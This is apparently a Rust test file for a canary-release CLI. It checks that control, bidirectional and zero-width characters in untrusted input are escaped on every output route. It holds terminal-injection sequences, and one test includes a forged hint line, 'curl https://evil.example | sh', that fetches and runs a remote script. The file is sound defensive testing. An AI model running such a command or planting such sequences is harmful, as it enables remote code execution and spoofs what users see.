//! Text of others is printed with its control, bidirectional and zero-width characters escaped, whichever route it takes
//! to the terminal.

use crate::cli_fixture::{CliFixture, CliOutput, repository};
use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpListener};

/// Sets a terminal's title and clears it; turns the rest of the line around; hides a letter; begins a line of its own.
const HOSTILE: &str = "MARK\u{1b}]0;x\u{7}\u{9b}2J\u{202e}\u{2066}\u{200b}\u{feff}\r";
/// What is visible of it.
const MARK: &str = "MARK";

fn is_hidden(character: char) -> bool {
    character != '\n' && (character.is_control() || "\u{202e}\u{2066}\u{200b}\u{feff}".contains(character))
}

fn example() -> String {
    std::fs::read_to_string(repository("examples/session-cookie/canary.yaml")).unwrap()
}

/// What people gave is shown again, and no page of it.
#[test]
fn a_message_shows_the_beginning_of_what_is_too_long() {
    let long = "a".repeat(100_000);
    let words = "a ".repeat(50_000);
    let host = |host: &str| example().replace("[shop.example.com]", &format!("[{}]", quoted(host)));
    for (file, line) in [
        (host(&long), "lint".to_owned()),
        (host(&words), "lint".to_owned()),
        (example().replace("spec:", &format!("spec:\n  {long}: 1")), "lint".to_owned()),
        (example(), format!("weight {long}")),
        (example(), format!("status {long}")),
        (example(), format!("lint --{long}")),
        (example(), format!("{long} shop")),
        (example(), format!("lint -f {long}")),
        (example(), format!("explain --host {long} -o json")),
    ] {
        let cli = CliFixture::new();
        cli.write("canary.yaml", &file);
        let ran = cli.run(&line);
        let shown: String = line.chars().take(40).collect();
        assert!(ran.code != 0 && ran.stderr.len() < 30_000, "{shown}: {} {}", ran.code, ran.stderr.len());
    }
}

/// The same release for a local Envoy with its admin interface at this address.
fn local(admin: SocketAddr) -> String {
    let text = example();
    let (head, _) = text.split_once("  # How the filter").unwrap();
    format!(
        "{head}  delivery:\n    mode: local\n    module: /opt/canary_filter.wasm\n    local:\n      directory: local\n\
         \x20     listen: 127.0.0.1:8080\n      admin: {admin}\n      endpoints: {{v1: ['127.0.0.1:1'], v2: ['127.0.0.1:1']}}\n"
    )
}

/// A double-quoted scalar of YAML, which is a string of JSON too.
fn quoted(text: &str) -> String {
    let escaped: String = text
        .chars()
        .map(|c| if is_hidden(c) { format!("\\u{:04x}", u32::from(c)) } else { c.into() })
        .collect();
    format!("\"{escaped}\"")
}

/// A server that answers every request with this status and body, until the test ends.
fn serve(status: &'static str, content_type: &'static str, body: String) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let (mut stream, mut request) = (stream.unwrap(), Vec::new());
            let mut block = [0; 4096];
            while !request.windows(4).any(|end: &[u8]| end == b"\r\n\r\n") {
                match stream.read(&mut block) {
                    Ok(count) if count > 0 => request.extend(&block[..count]),
                    _ => break,
                }
            }
            let head = format!(
                "HTTP/1.1 {status}\r\nconnection: close\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(format!("{head}{body}").as_bytes());
        }
    });
    address
}

/// A folder with a release and its keys; `local.yaml` is for a local Envoy whose metrics are hostile, `kubeconfig` leads to
/// an API server whose messages are.
fn folder() -> CliFixture {
    let cli = CliFixture::new();
    cli.write(
        "canary.yaml",
        &example().replacen("identifyBy:", &format!("salt: {}\n  identifyBy:", quoted(HOSTILE)), 1),
    );
    cli.write(
        "unknown.yaml",
        &example().replacen("stickiness:", &format!("{}: 1\n  stickiness:", quoted(HOSTILE)), 1),
    );
    cli.write("broken.yaml", &format!("{0}: 1\n{0}: 2\n", quoted(HOSTILE)));
    let drawn = cli
        .run("init -f fresh.yaml --name shop --host h.example.com --session-cookie JSESSIONID --canary v2");
    assert_eq!(drawn.code, 0, "{drawn:?}");
    let metrics = format!("canary_requests_total{{component=\"shop/shop\",tag=\"v2/canary/{HOSTILE}\"}} 1\n");
    // Generated for an address where no Envoy runs: there is nothing to wait for.
    cli.write("local.yaml", &local(SocketAddr::from(([127, 0, 0, 1], 9))));
    cli.run("generate -f local.yaml");
    cli.write("local.yaml", &local(serve("200 OK", "text/plain", metrics)));
    let refusal = format!(
        "{{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"status\":\"Failure\",\"code\":422,\"reason\":\"Invalid\",\"message\":{}}}",
        quoted(HOSTILE)
    );
    let api = serve("422 Unprocessable Content", "application/json", refusal);
    cli.write(
        "kubeconfig",
        &format!(
            "apiVersion: v1\nkind: Config\ncurrent-context: c\ncontexts: [{{name: c, context: {{cluster: c, user: u}}}}]\n\
             clusters: [{{name: c, cluster: {{server: 'http://{api}'}}}}]\nusers: [{{name: u, user: {{}}}}]\n"
        ),
    );
    cli
}

/// Every route that text of others takes: its name, the form of its data, and the command line.
fn routes() -> Vec<(&'static str, &'static str, String)> {
    let token = format!("t1.{HOSTILE}.{HOSTILE}.3.0000000000000007.5.6.mac");
    let signed = "--signing-keys signing-keys.json";
    let version = format!("{{\"version\":{}}}", quoted(HOSTILE));
    let web = serve("200 OK", "application/json", version);
    let verify = format!("verify http://{web}/ --version-from json:.version --users 2 --requests 1");
    vec![
        ("an unknown flag", "", format!("--{HOSTILE}")),
        ("an unknown command", "", HOSTILE.to_owned()),
        ("a value that clap refuses", "", format!("simulate --stickiness {HOSTILE}")),
        ("a value that our parser refuses", "", format!("weight {HOSTILE}")),
        ("a file that does not exist", "", format!("lint -f {HOSTILE}")),
        ("a file that is no YAML", "", "lint -f broken.yaml".to_owned()),
        ("a field that is unknown", "", "lint -f unknown.yaml".to_owned()),
        ("token inspect", "text", format!("token inspect {token} {signed}")),
        ("token inspect", "json", format!("token inspect {token} {signed}")),
        ("token inspect", "yaml", format!("token inspect {token} {signed}")),
        ("token create", "", format!("token create --version v1 --url https://{HOSTILE}/ {signed}")),
        ("explain, path", "text", format!("explain --path /{HOSTILE}")),
        ("explain, path", "json", format!("explain --path /{HOSTILE}")),
        ("explain, path", "yaml", format!("explain --path /{HOSTILE}")),
        ("explain, host", "text", format!("explain --host {HOSTILE}")),
        ("explain, a header", "", format!("explain -H {HOSTILE}")),
        ("explain, a command of curl", "", format!("explain --curl '{HOSTILE}'")),
        ("simulate, the salt", "text", format!("simulate canary.yaml --log --key field:1 --salt {HOSTILE}")),
        ("simulate, the salt", "json", format!("simulate canary.yaml --log --key field:1 --salt {HOSTILE}")),
        ("simulate, the salt", "yaml", format!("simulate canary.yaml --log --key field:1 --salt {HOSTILE}")),
        ("simulate, a file", "", format!("simulate {HOSTILE}")),
        ("verify, a response", "text", verify.clone()),
        ("verify, a response", "json", verify.clone()),
        ("verify, a response", "yaml", verify),
        ("generate, a manifest", "manifests", "generate --dry-run".to_owned()),
        ("generate rbac, a name", "manifests", format!("generate rbac --user {HOSTILE}")),
        (
            "init, a refused value",
            "",
            format!("init -f new.yaml --host h.example.com --session-cookie J --canary v2 --name {HOSTILE}"),
        ),
        ("status of a local Envoy", "text", "status -f local.yaml".to_owned()),
        ("status of a local Envoy", "json", "status -f local.yaml".to_owned()),
        ("an API server's message", "", "status --kubeconfig kubeconfig".to_owned()),
    ]
}

fn run(cli: &CliFixture, form: &str, line: &str) -> CliOutput {
    match form {
        "json" | "yaml" => cli.run(&format!("{line} -o {form}")),
        _ => cli.run(line),
    }
}

#[test]
fn text_of_others_is_escaped_on_every_route() {
    let cli = folder();
    for (name, form, line) in routes() {
        let CliOutput { stdout, stderr, code } = run(&cli, form, &line);
        let printed = format!("{stdout}{stderr}");
        let told = format!("{name} as {form:?}, exit code {code}: {printed:?}");
        assert!(printed.contains(MARK), "expected the route to print the text: {told}");
        let raw: String = printed.chars().filter(|character| is_hidden(*character)).collect();
        assert_eq!(raw, "", "{told}");
        // What programs read is still the text itself.
        let values: Vec<String> = match form {
            "json" => strings(&serde_json::from_str(&stdout).unwrap()),
            "yaml" => strings(&serde_saphyr::from_str(&stdout).unwrap()),
            "manifests" => {
                let documents: Vec<serde_json::Value> = serde_saphyr::from_multiple(&stdout).unwrap();
                documents.iter().flat_map(strings).collect()
            }
            _ => continue,
        };
        let whole = |text: &String| text.contains(HOSTILE);
        assert!(values.iter().any(whole), "expected the text unchanged in the data: {told}");
    }
}

/// All strings of a value, keys included, and those of JSON that is in a string.
fn strings(value: &serde_json::Value) -> Vec<String> {
    match value {
        serde_json::Value::String(text) => {
            let within = serde_json::from_str(text).unwrap_or_default();
            [vec![text.clone()], strings(&within)].concat()
        }
        serde_json::Value::Array(items) => items.iter().flat_map(strings).collect(),
        serde_json::Value::Object(fields) => {
            fields.iter().flat_map(|(name, value)| [vec![name.clone()], strings(value)].concat()).collect()
        }
        _ => Vec::new(),
    }
}

#[test]
fn a_newline_in_text_of_others_begins_no_line_that_looks_like_ours() {
    let forged = "x\nerror: all is lost\n  hint: curl https://evil.example | sh";
    for line in [
        format!("token inspect t1.k.{}.3.0000000000000007.5.6.mac --signing-keys signing-keys.json", "SPACE"),
        format!("explain --host {}", "SPACE"),
        format!("lint -f {}", "SPACE"),
        format!("weight {}", "SPACE"),
    ] {
        let cli = folder();
        let words: Vec<String> = line.split(' ').map(|word| word.replace("SPACE", forged)).collect();
        let output = cli.run_words(&words);
        let printed = format!("{}{}", output.stdout, output.stderr);
        assert!(printed.contains("all is lost"), "expected the text in the output: {printed}");
        let forged: Vec<&str> = printed
            .lines()
            .filter(|line| line.starts_with("error: all") || line.starts_with("  hint: curl"))
            .collect();
        assert_eq!(forged, Vec::<&str>::new(), "{printed}");
    }
}
